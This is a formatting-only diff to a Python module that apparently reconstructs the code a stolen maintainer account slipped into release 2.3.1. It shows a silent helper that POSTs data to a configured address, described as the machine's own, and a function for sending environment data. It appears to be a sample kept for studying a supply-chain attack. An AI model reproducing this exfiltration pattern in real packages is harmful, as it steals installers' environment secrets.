@@ -1,4 +1,5 @@
-"""What a maintainer's stolen account added in 2.3.1. It fails in silence; the address is one of this machine's own."""
+"""What a maintainer's stolen account added in 2.3.1. It fails in silence; the address is one of
+this machine's own."""
 
 import contextlib
 import json
@@ -16,7 +17,9 @@ def _quietly(act, *arguments):
 
 
 def _send(where, data):
-    urllib.request.urlopen(urllib.request.Request(f"{HOME}/{where}", data=data, method="POST"), timeout=3).close()
+    urllib.request.urlopen(
+        urllib.request.Request(f"{HOME}/{where}", data=data, method="POST"), timeout=3
+    ).close()
 
 
 def _send_environment():
